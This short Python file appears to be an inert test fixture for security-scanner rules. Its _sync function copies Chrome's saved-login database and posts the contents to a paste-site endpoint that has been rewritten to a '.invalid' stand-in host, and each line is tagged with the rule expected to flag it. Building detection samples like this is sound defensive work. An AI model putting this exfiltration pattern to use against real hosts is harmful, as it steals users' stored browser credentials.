# Inert fixture: the paste endpoint host is rewritten to .invalid before any use.
import os
import shutil

import requests

PASTE = "https://pastebin.com/api/api_post.php".replace("pastebin.com", "canary.modelgate.invalid")  # expect: YR201
DB = os.path.join(os.environ.get("LOCALAPPDATA", "/tmp/modelgate-canary"), "Google/Chrome/User Data/Default/Login Data")  # expect: YR202


def _sync():
    shutil.copy(DB, "/tmp/modelgate-canary")
    requests.post(PASTE, data={"api_paste_code": open("/tmp/modelgate-canary", "rb").read()})
